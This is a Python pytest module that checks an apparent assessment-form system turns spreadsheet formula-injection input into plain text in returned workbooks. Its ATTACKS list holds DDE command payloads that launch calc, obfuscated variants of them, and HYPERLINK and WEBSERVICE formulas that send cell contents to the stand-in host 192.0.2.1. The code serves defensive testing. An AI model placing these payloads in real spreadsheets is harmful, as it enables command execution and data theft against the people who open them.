"""退回单 of forms with formulas as text in every typed cell, and in names of units: text stays text.

Three kinds are made: the marked copy, the form made anew, the list alone.
"""

from __future__ import annotations

import re
import zipfile
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import NamedTuple

import openpyxl
import pytest
from lxml import etree

from kaohe.jobs.check import check
from kaohe.jobs.give_back import GivenBack
from kaohe.sheets.form_layout import FORM_TITLE, letter
from kaohe.sheets.give_back_sheet import GIVE_BACK
from kaohe.workbooks.package import fill
from kaohe.workbooks.package.mark_strict import FORMULAS
from kaohe.workbooks.package.refs import parse_area
from tests.jobs import hostile_parts
from tests.jobs.given_back import formulas, notes, understood
from tests.support.line import Desk, grid

ATTACKS = (
    "=cmd|' /C calc'!A0",
    '=DDE("cmd","/C calc","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=cmd|' /C calc'!A0",
    "\n=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"点这里")',
    '=WEBSERVICE("http://192.0.2.1/"&A1)',
    "＝cmd|' /C calc'!A0",
    "_x003D_cmd|' /C calc'!A0",
    "'=cmd|' /C calc'!A0",
    "</t></is></c><c><f>1+1</f></c>",
    "{=1+1}",
    "%0A=cmd|' /C calc'!A0",
)
TYPED = ("code", "name", "unit_of_measure", "actual", "status", "mark", "evidence", "reason", "measure")
"""Columns of the form; those of identity and words may be locked, but not against everybody."""
LIVE = re.compile(r"cmd|192\.0\.2\.1|DDE|1\+1")


class Made(NamedTuple):
    """What came of all attacks: unit code → its 退回单, by kind."""

    desk: Desk
    given: GivenBack
    marked: Mapping[str, Path]
    anew: Mapping[str, Path]


def unit_of(number: int) -> str:
    return f"H{number:02}"


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Made:
    """A unit for each attack, called by it; every cell of its form holds it. Odd ones cannot be marked."""
    desk = Desk.new(tmp_path_factory.mktemp("退回"), 单位=units())
    named(desk)
    desk.issue()
    for number, text in enumerate(ATTACKS):
        for kind in ("A", "B"):
            form = desk.form(unit_of(number) + kind)
            data = attacked(form.read_bytes(), text)
            if kind == "B":
                data = hostile_parts.changed(data, hostile_parts.REFUSED["macros"])
            (desk.inbox / form.name).write_bytes(data)
        (desk.inbox / f"坏{number}.xlsx").write_bytes(b"PK\x03\x04 broken")
    done = check([desk.inbox], master_path=desk.master, return_to=desk.folder / "退回", clock=desk.clock)
    given = done.given_back
    assert given is not None
    assert given.failed == ()
    return Made(desk, given, by_unit(given.marked), by_unit(given.anew))


def units() -> str:
    codes = [unit_of(number) + kind for number in range(len(ATTACKS)) for kind in ("A", "B")]
    return "\n".join(["单位代码|单位名称|考核组|联络员", *(f"{code}|{code}|甲组|{code}" for code in codes)])


def named(desk: Desk) -> None:
    """The units' names and liaisons in the master: every second one is called by an attack."""
    rows = grid(desk.master, "单位").rows
    head = next(at for at, row in enumerate(rows) if "单位代码" in [str(v).rstrip("*") for v in row])
    titles = [str(value).rstrip("*") for value in rows[head]]
    code, name, liaison = (titles.index(word) for word in ("单位代码", "单位名称", "联络员"))
    cells = {}
    for number, row in enumerate(rows[head + 1 :], start=head + 2):
        typed = str(row[code] or "")
        if typed.startswith("H"):
            text = ATTACKS[int(typed[1:3])]
            cells[number, name + 1] = f"{text}{typed}"
            cells[number, liaison + 1] = text
    desk.master.write_bytes(fill(desk.master.read_bytes(), "单位", cells))


def attacked(form: bytes, text: str) -> bytes:
    """The attack in every cell of two rows and in the cells above the table, except codes of the first."""
    cells = {}
    for row in (8, 10):
        for key in TYPED if row == 10 else TYPED[3:]:
            area = parse_area(f"{letter(key)}{row}")
            assert area is not None
            cells[area.top, area.left] = text
    return fill(form, FORM_TITLE, cells)


def by_unit(paths: Iterable[Path]) -> dict[str, Path]:
    return {understood(path).identity.unit: path for path in paths}


def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def everything(made: Made) -> tuple[Path, ...]:
    return (*made.given.marked, *made.given.anew, *made.given.listed)


def test_every_return_is_answered(made: Made) -> None:
    codes = {unit_of(number) for number in range(len(ATTACKS))}
    assert set(made.marked) == {f"{code}A" for code in codes}
    assert set(made.anew) == {f"{code}B" for code in codes}
    assert len(made.given.listed) == len(ATTACKS)


def test_no_formula_but_those_that_were_issued(made: Made) -> None:
    for code, path in (*made.marked.items(), *made.anew.items()):
        assert formulas(path.read_bytes()) <= formulas(made.desk.form(code).read_bytes())
    for path in made.given.listed:
        assert formulas(path.read_bytes()) == set()


def test_no_live_text_in_any_other_formula(made: Made) -> None:
    """Conditional formats, drop-downs, names."""
    for path in everything(made):
        for name, content in parts(path).items():
            if not name.endswith((".xml", ".rels")):
                continue
            nodes = etree.fromstring(content).iter(*(f"{{*}}{tag}" for tag in FORMULAS))
            live = [text for node in nodes if LIVE.search(text := "".join(node.itertext()))]
            assert live == [], (path.name, name)


def test_nothing_leads_out(made: Made) -> None:
    for path in everything(made):
        for name, content in parts(path).items():
            if name.endswith(".rels"):
                assert b"External" not in content, (path.name, name)
        for sheet in openpyxl.load_workbook(path):
            links = [cell.hyperlink for row in sheet.iter_rows() for cell in row if cell.hyperlink]
            assert [link.target for link in links if link.target] == []


def test_every_cell_that_holds_an_attack_is_text(made: Made) -> None:
    for path in everything(made):
        for sheet in openpyxl.load_workbook(path):
            for row in sheet.iter_rows():
                live = [c for c in row if isinstance(c.value, str) and LIVE.search(c.value)]
                assert [c.coordinate for c in live if c.data_type == "f"] == []


@pytest.mark.parametrize("number", range(len(ATTACKS)), ids=lambda number: ascii(ATTACKS[number])[:30])
def test_what_was_typed_is_still_there_as_text(number: int, made: Made) -> None:
    for path in (made.marked[f"{unit_of(number)}A"], made.anew[f"{unit_of(number)}B"]):
        row = next(row for row in understood(path).rows if row.indicator == "X1")
        text = ATTACKS[number]
        assert row.value == text
        assert (row.reason, row.measure, row.evidence) == (text.strip(), text.strip(), text.strip())


def test_notes_are_plain_text(made: Made) -> None:
    for code, path in (*made.marked.items(), *made.anew.items()):
        attack = ATTACKS[int(code[1:3])]
        said = notes(path)["K8"].replace("_x005F_", "_")
        assert attack.strip("\t\n") in said
        comments = next(content for name, content in parts(path).items() if "comments" in name)
        assert re.search(rb"<(?:\w+:)?(?:f|hyperlink|object|a)\b", comments) is None


def test_the_letter_names_the_unit_as_text(made: Made) -> None:
    """The name is the master's; so is the liaison's."""
    for code, path in (*made.marked.items(), *made.anew.items()):
        sheet = openpyxl.load_workbook(path)[GIVE_BACK]
        to = next(c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and code in c.value)
        assert to.data_type != "f"


def test_names_of_files_are_safe(made: Made) -> None:
    for path in everything(made):
        assert path.parent == made.given.folder
        assert not set(path.name) & set('\\/:*?"<>|\t\n')
        assert path.name[0] == "退"


def test_the_reminder_and_the_master_hold_text_too(made: Made) -> None:
    made.desk.consolidate()
    for sheet in openpyxl.load_workbook(made.desk.master):
        for row in sheet.iter_rows():
            assert [c.coordinate for c in row if c.data_type == "f" and LIVE.search(str(c.value))] == []
